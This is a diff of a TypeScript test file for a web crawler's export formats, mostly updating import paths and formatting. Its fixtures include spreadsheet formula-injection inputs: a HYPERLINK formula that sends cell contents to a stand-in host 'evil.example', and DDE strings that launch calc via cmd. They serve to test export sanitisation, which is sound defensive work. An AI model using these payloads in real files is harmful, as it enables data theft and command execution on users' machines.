@@ -9,9 +9,9 @@ import {
   toJson,
   toMarkdown,
   type CrawlExport,
-} from '../../lib/export';
-import type { CrawlRecord } from '../../lib/store';
-import type { PageResult, SkipRecord } from '../../lib/types';
+} from '../../lib/app/export';
+import type { CrawlRecord } from '../../lib/app/store';
+import type { PageResult, SkipRecord } from '../../lib/engine/types';
 
 // Midday UTC, so the local calendar date is the same in every time zone from UTC-11 to UTC+11.
 const CREATED = Date.UTC(2024, 4, 17, 12, 0, 0);
@@ -60,7 +60,7 @@ const pages: PageResult[] = [
   page('Line one\nLine two\r\nLine three', 0.7),
   page('=HYPERLINK("http://evil.example/?leak="&A1,"click me")', 0.66),
   page("+cmd|' /C calc'!A0", 0.65, { snippet: '-2+3+cmd|calc' }),
-  page('@SUM(1+1)*cmd|\' /C calc\'!A0', 0.64, { lastModified: '=1+2' }),
+  page("@SUM(1+1)*cmd|' /C calc'!A0", 0.64, { lastModified: '=1+2' }),
   page('-1+1', 0.63, { snippet: '@evil' }),
   page('\tTabbed =1+1', 0.62, { snippet: '\r=1+1 after CR' }),
   page('Ünïcödé – 日本語 – Ελληνικά ✓', 0.61, { snippet: 'naïve café «quotes» „more“' }),
@@ -84,7 +84,12 @@ const skips: SkipRecord[] = [
 const byScore = (list: PageResult[]): PageResult[] => [...list].sort((a, b) => b.score - a.score);
 const listed = byScore(pages.filter((p) => !p.noindex));
 const httpListed = listed.filter((p) => /^https?:/.test(p.url));
-const collapse = (s: string): string => s.replace(/[\u0000-\u001f\u007f-\u009f]/g, ' ').replace(/\s+/g, ' ').trim();
+const collapse = (s: string): string =>
+  s
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this removes
+    .replace(/[\u0000-\u001f\u007f-\u009f]/g, ' ')
+    .replace(/\s+/g, ' ')
+    .trim();
 
 /** A strict RFC 4180 parser: CRLF record ends only, quoted fields with doubled quotes, nothing after a closing quote. */
 function parseCsv(text: string): string[][] {
@@ -251,9 +256,7 @@ describe('bookmarks export', () => {
     expect(tags.filter((t) => !allowed.has(t))).toEqual([]);
     expect(document.querySelectorAll('script, img, b')).toHaveLength(0);
     // Every element carries only the attributes the format defines.
-    const attrs = new Set(
-      [...document.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name.toLowerCase())),
-    );
+    const attrs = new Set([...document.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name.toLowerCase())));
     expect([...attrs].sort()).toEqual(['add_date', 'content', 'href', 'http-equiv', 'last_modified']);
   });
 });
